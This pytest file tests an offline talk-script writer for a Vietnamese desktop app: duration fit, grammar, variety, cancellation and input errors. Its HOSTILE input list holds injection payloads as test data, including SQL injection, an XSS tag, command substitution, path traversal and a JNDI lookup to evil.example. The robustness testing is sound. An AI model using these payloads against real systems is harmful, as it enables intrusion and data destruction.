"""Whole talks: their length, variety, grammar and manners."""

from __future__ import annotations

import itertools
import re
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emlinh_desktop.base.cancellation import Cancelled, CancelToken
from emlinh_desktop.domain.brief import Brief, Language
from emlinh_desktop.domain.errors import ErrorCode, InputError
from emlinh_desktop.domain.script import Script
from emlinh_desktop.writing.offline.fit import LEAD_IN_S, PARAGRAPH_PAUSE_S, SENTENCE_PAUSE_S, TAIL_S
from emlinh_desktop.writing.offline.offline_writer import OfflineWriter
from tests.unit.writing.offline.topic_lists import TOPICS

DURATIONS_S = (5, 10, 15, 30, 45, 60, 120, 300)
HOSTILE = [
    "../../../etc/passwd", "/dev/null", "'; DROP TABLE videos; --", "<script>alert(1)</script>", "$(touch /tmp/x) mèo", "%s%s%s%n %d %(topic)s", "{s} {0} {q}",
    "${jndi:ldap://evil.example/a}", "Mèo แมว 猫 قطة", "แมวน่ารัก", "HỌC HỌC NỮA HỌC MÃI", "Phim “Dế Mèn phiêu lưu ký”", "mèo 🐱 con", "a" * 500, "học " * 120,
    "số " + "9" * 400, "Vì sao???", "5 mẹo", "100 mẹo sống khỏe", "có nên", "X", "vì sao " + "rất dài " * 50, "how to", "why", "C#", "(((mèo", "A: B: C",
    "0 mẹo ngủ ngon",
]  # fmt: skip


def seconds_for(texts: Sequence[str]) -> list[float]:
    """A voice of some 15 characters a second."""
    return [0.15 + len(text) / 15.5 for text in texts]


def film_s(script: Script) -> float:
    pauses = [PARAGRAPH_PAUSE_S if line.ends_paragraph else SENTENCE_PAUSE_S for line in script.lines[:-1]]
    return LEAD_IN_S + sum(seconds_for([line.text for line in script.lines])) + sum(pauses) + TAIL_S


def write(topic: str, duration_s: float, language: Language | None = None) -> Script:
    writer = OfflineWriter()
    brief = Brief(topic=topic, duration_s=duration_s, language=language)
    return writer.write(brief, writer.language_of(brief), seconds_for, lambda fraction: None, CancelToken())


def check_grammar(script: Script) -> None:
    texts = [line.text for line in script.lines]
    assert len(texts) == len(set(texts)), texts
    for text in texts:
        assert not re.search(r"  |[{}<>|]|\s[,.!?;:]|,,|\.\.|:\s*:|việc việc|[.!?]”[.!?]|\b(?:the|a|an) (?:the|a|an)\b", text), text
        assert text[-1] in ".!?”", text
        assert text.count("“") == text.count("”"), text
        first = next(char for char in text if char.isalnum())
        assert not first.islower() or re.match(r"[a-z][A-Z]|[^\x00-\u024f\u1e00-\u1eff]", text), text


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("kind", list(TOPICS[Language.VI]))
def test_length_and_grammar(language: Language, kind: str) -> None:
    for topic, duration_s in itertools.product(TOPICS[language][kind][:2], DURATIONS_S):
        script = write(topic, duration_s, language)
        assert abs(film_s(script) - duration_s) <= 0.04 * duration_s, (topic, duration_s, film_s(script))
        assert script.draft
        assert script.writer == "offline"
        assert script.lines[-1].ends_paragraph
        check_grammar(script)


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("kind", list(TOPICS[Language.VI]))
def test_two_topics_of_a_kind_differ(language: Language, kind: str) -> None:
    """Over all pairs: on average under a tenth shared, nearly all pairs under a third, none over a half."""
    for duration_s in (30, 60):
        talks = [{line.text for line in write(topic, duration_s, language).lines} for topic in TOPICS[language][kind]]
        shared = [len(one & other) / max(len(one), len(other)) for one, other in itertools.combinations(talks, 2)]
        assert sum(shared) / len(shared) < 0.1
        assert sum(share > 1 / 3 for share in shared) <= 0.04 * len(shared)
        assert max(shared) <= 0.5


@pytest.mark.parametrize("topic", HOSTILE)
def test_hostile_topics_make_sensible_talks(topic: str) -> None:
    for duration_s in (5, 40):
        script = write(topic, duration_s)
        check_grammar(script)
        assert abs(film_s(script) - duration_s) <= 0.04 * duration_s
        assert max(len(line.text) for line in script.lines) <= 260


def test_a_list_has_as_many_tips_as_it_says() -> None:
    texts = [line.text for line in write("5 mẹo tiết kiệm điện mùa hè", 60).lines]
    assert sum(text.startswith("Mẹo thứ") for text in texts) == 5
    joined = next(line.text for line in write("5 mẹo tiết kiệm điện mùa hè", 15).lines if "," in line.text and ":" in line.text)
    assert joined.count(",") == 4


def test_no_second_without_a_first() -> None:
    for topic, duration_s in itertools.product(("4 bí quyết nấu ăn", "cách viết CV", "3 lý do nên đọc sách", "lợi ích của trà"), (10, 20, 30, 60, 200)):
        text = write(topic, duration_s).text
        assert "thứ hai:" not in text or "thứ nhất:" in text
        assert "Bước hai:" not in text or "Bước một:" in text
        assert not re.search("Sau cùng,|Và cuối cùng,", text) or re.search("Trước hết,|Đầu tiên,|Điều dễ thấy nhất|Mở đầu nhé", text)


def test_the_legend_is_told_in_order() -> None:
    text = write("sự tích Hồ Gươm", 60).text
    places = [text.index(word) for word in ("Lê Lợi", "Lê Thận", "Thuận Thiên", "Rùa Vàng", "Vua trao gươm")]
    assert places == sorted(places)


def test_same_topic_same_talk_other_topic_other_talk() -> None:
    assert write("mùa thu Hà Nội", 45) == write("mùa thu Hà Nội", 45)
    assert write("mùa thu Hà Nội", 45).lines != write("mùa thu Hà Nội xưa", 45).lines


def test_language_is_the_briefs_else_the_topics() -> None:
    assert write("why cats purr", 30).language is Language.EN
    assert write("AI", 30).language is Language.VI
    assert write("AI", 30, Language.EN).language is Language.EN


def test_told_grows_to_one_and_cancel_is_heard() -> None:
    fractions: list[float] = []
    brief = Brief(topic="tình bạn", duration_s=60)
    OfflineWriter().write(brief, Language.VI, seconds_for, fractions.append, CancelToken())
    assert fractions == sorted(fractions)
    assert fractions[-1] == pytest.approx(1.0)
    token = CancelToken()

    def cancelling(texts: Sequence[str]) -> list[float]:
        token.cancel()
        return seconds_for(texts)

    with pytest.raises(Cancelled):
        OfflineWriter().write(brief, Language.VI, cancelling, fractions.append, token)


@pytest.mark.parametrize(("topic", "code"), [("", ErrorCode.TOPIC_EMPTY), ("🐱🐶", ErrorCode.TOPIC_EMPTY), ("x" * 501, ErrorCode.TOPIC_TOO_LONG)])
def test_bad_topics_are_refused(topic: str, code: ErrorCode) -> None:
    with pytest.raises(InputError) as caught:
        write(topic, 30)
    assert caught.value.code is code


@settings(max_examples=40, deadline=None)
@given(st.text(min_size=1, max_size=120).filter(lambda text: any(char.isalnum() for char in text)), st.sampled_from([5, 12, 40]))
def test_any_topic_makes_a_talk_of_the_right_length(topic: str, duration_s: float) -> None:
    try:
        script = write(topic, duration_s)
    except InputError:
        return
    assert abs(film_s(script) - duration_s) <= 0.04 * duration_s
